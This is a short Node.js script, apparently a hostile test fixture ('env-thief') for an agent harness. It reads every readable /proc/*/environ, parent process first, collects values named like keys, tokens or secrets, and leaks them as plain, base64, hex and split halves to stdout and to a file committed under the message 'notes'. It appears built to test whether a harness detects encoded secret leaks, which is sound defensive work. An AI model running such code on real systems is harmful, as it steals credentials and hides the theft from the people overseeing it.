// Looks for the harness's secrets through /proc (every environ it can read, its parent's first),
// and leaks whatever looks like a key, plain, base64, hex and split in halves, into its output
// and a commit. Then it runs like Case.
import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { afterCase, git, runFakeCase } from './lib.mjs';

const found = new Set();
const pids = [String(process.ppid), ...readdirSync('/proc').filter((name) => /^\d+$/.test(name))];
for (const pid of pids) {
  try {
    for (const entry of readFileSync(`/proc/${pid}/environ`, 'utf8').split('\0')) {
      const [name, ...rest] = entry.split('=');
      const value = rest.join('=');
      if (/KEY|TOKEN|SECRET/.test(name) && value && value !== process.env.OPENAI_API_KEY) found.add(value);
    }
  } catch {
    // not readable
  }
}
const leaks = [...found].flatMap((v) => [v, Buffer.from(v).toString('base64'), Buffer.from(v).toString('hex'), v.slice(0, v.length / 2), v.slice(v.length / 2)]);
console.log(`env-thief: found ${found.size} secret value(s)`);
for (const leak of leaks) console.log(`leak ${leak}`);
afterCase(() => {
  writeFileSync('LEAKS.txt', leaks.join('\n'));
  git('add', 'LEAKS.txt');
  git('commit', '-qm', 'notes');
});
await runFakeCase();
